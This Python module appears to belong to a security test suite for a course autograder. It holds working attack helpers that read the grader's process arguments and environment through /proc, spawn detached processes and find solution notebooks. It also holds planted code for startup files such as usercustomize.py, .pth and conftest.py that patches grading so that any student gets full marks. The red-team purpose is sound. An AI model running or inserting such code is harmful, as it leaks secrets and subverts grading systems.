"""Code that the attack notebooks run inside the student's kernel (kept as text).

``PRELUDE`` is prepended to every attack cell. It defines small helpers a hostile
student would write: find the grader by walking ``/proc``, read its argv and
environment, spawn detached processes that carry the suite's marker (so the suite
can find survivors), and ``_won(what)``: define the correct answer of question 2,
i.e. turn an escape that the grader cannot otherwise observe into a score change.

Safety on an unsandboxed grader (the suite must also run against ``main``, where
most attacks succeed, on a shared machine where the grader runs as root): attacks
only write below the suite's world folder or the grader's own scratch, write only
inert marker-named probe files into shared places (/tmp, /dev/shm, site-packages),
never write to kernel files (they only open them), and ``kill(-1)`` runs only in a
PID namespace other than the suite's (checked by inode).
"""

PRELUDE = r'''
# ---- attack prelude (helpers a hostile student would write) ----
import os, sys, json, time, signal, subprocess, threading
_M = __CONFIG__
MARKER = _M["marker"]


def _rd(path, text=False):
    try:
        with open(path, "rb") as fh:
            data = fh.read(50_000_000)
        return data.decode("utf-8", "replace") if text else data
    except Exception:
        return "" if text else b""


def _graders():
    """(pid, argv) of every visible process that looks like the grader."""
    found = []
    try:
        entries = os.listdir("/proc")
    except OSError:
        return found
    for e in entries:
        if not e.isdigit() or int(e) == os.getpid():
            continue
        argv = _rd(f"/proc/{e}/cmdline").split(b"\0")
        if b"kpca_lib.course.cli" in argv and b"grade" in argv:
            found.append((int(e), [a.decode("utf-8", "replace") for a in argv if a]))
    return found


def _grader_info():
    info = {"pids": [], "out": [], "solutions": [], "subs": [], "env": {}, "cwd": []}
    for pid, argv in _graders():
        info["pids"].append(pid)
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = "/"
        info["cwd"].append(cwd)
        for i, a in enumerate(argv):
            if a in ("--out", "--solutions") and i + 1 < len(argv):
                info[a[2:]].append(os.path.join(cwd, argv[i + 1]))
            elif a.endswith(".ipynb"):
                info["subs"].append(os.path.join(cwd, a))
        info["solutions"].append(os.path.join(cwd, "solutions"))
        for kv in _rd(f"/proc/{pid}/environ").split(b"\0"):
            if b"=" in kv:
                k, v = kv.split(b"=", 1)
                info["env"][k.decode("utf-8", "replace")] = v.decode("utf-8", "replace")
    return info


def _won(what):
    """The attack got through: take question 2's points (and leave a flag if possible)."""
    exec(_M["honest_q2"], globals())
    try:
        with open(os.path.join(_M["pids"], _M["name"] + ".won"), "a") as fh:
            fh.write(str(what)[:500] + "\n")
    except Exception:
        pass


def _won_loudly(what):
    """_won, then raise with what got through: the row's notes say it (a cell that raises
    still keeps what it defined, question 2's answer included)."""
    _won(what)
    raise RuntimeError("the attack got through: " + (" | ".join(map(str, what)) if isinstance(what, list)
                                                      else str(what))[:1500])


def _spawn(code, *args, new_session=True):
    """A detached python process whose argv and environment carry the marker."""
    env = dict(os.environ, KPCA_ATTACK_MARKER=MARKER)
    return subprocess.Popen([sys.executable, "-c", code, MARKER, *map(str, args)], env=env,
                            start_new_session=new_session, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)


def _solution_dirs():
    import kpca_lib
    dirs = list(_grader_info()["solutions"]) + [_M["solutions"]]
    try:
        dirs.append(os.path.join(os.path.dirname(os.path.dirname(os.path.realpath(kpca_lib.__file__))), "solutions"))
    except Exception:
        pass
    return dirs


def _solution_answers(dirs=None):
    """{cell id: source} of the solution's answer cells, from the first readable copy."""
    for d in dirs if dirs is not None else _solution_dirs():
        nb = _rd(os.path.join(d, "01_feature_maps.ipynb"), text=True)
        if not nb:
            continue
        try:
            cells = json.loads(nb)["cells"]
        except Exception:
            continue
        out = {}
        for c in cells:
            if c.get("metadata", {}).get("kpca", {}).get("role") in ("setup", "question", "answer"):
                src = c["source"]
                out[c.get("id")] = "".join(src) if isinstance(src, list) else src
        if out:
            return d, out
    return None, {}


_BROAD = {"/", "/tmp", "/var", "/var/tmp", "/home", "/root", "/work", "/usr", "/dev", "/dev/shm", "/run"}


def _roots():
    """Folders near the kernel's own (the grader's scratch when there is no sandbox)."""
    roots, d = [], os.path.realpath(os.getcwd())
    for _ in range(3):
        if d in _BROAD:
            break
        roots.append(d)
        d = os.path.dirname(d)
    t = os.environ.get("TMPDIR", "")
    if t and t.startswith(_M["world"]):
        roots.append(t)
    return roots


def _walk(names=None, limit=20000, depth=4):
    """Paths below _roots() (files whose name is in ``names``, or every directory)."""
    seen, out = set(), []
    for root in _roots():
        base = root.rstrip("/").count("/")
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath in seen:
                dirnames[:] = []
                continue
            seen.add(dirpath)
            if dirpath.count("/") - base >= depth:
                dirnames[:] = []
            if names is None:
                out.append(dirpath)
            else:
                out.extend(os.path.join(dirpath, f) for f in filenames if f in names)
            if len(seen) > limit:
                return out
    return out


def _isolated_pid_ns():
    try:
        return os.readlink("/proc/self/ns/pid") != _M["test_pid_ns"] and not _graders()
    except OSError:
        return False


def _set_comm(name):
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, name.encode()[:15], 0, 0, 0)
    except Exception:
        pass
# ---- end of prelude ----
'''

# Planted code (an ipykernel_launcher.py, IPython startup file, usercustomize.py, .pth,
# conftest.py): leave a flag where the suite can see it, then give the kernel the
# solution's answers right before each export (a blank classmate gets full marks).
PLANTED = r'''
import os, json
_P = __PIDS__
try:
    open(os.path.join(_P, "planted-ran-" + str(os.getpid())), "w").close()
except Exception:
    pass
try:
    import kpca_lib.course.grading.run.kernel_side as _ks
    _orig = _ks.install

    def _install(namespace, *a, **k):
        export = _orig(namespace, *a, **k)

        def boosted(question):
            for d in __SOLDIRS__:
                try:
                    cells = json.load(open(os.path.join(d, "01_feature_maps.ipynb")))["cells"]
                except Exception:
                    continue
                for c in cells:
                    if c.get("metadata", {}).get("kpca", {}).get("role") in ("setup", "question", "answer"):
                        exec("".join(c["source"]), namespace)
                break
            return export(question)
        return boosted
    _ks.install = _install
except Exception:
    pass
'''
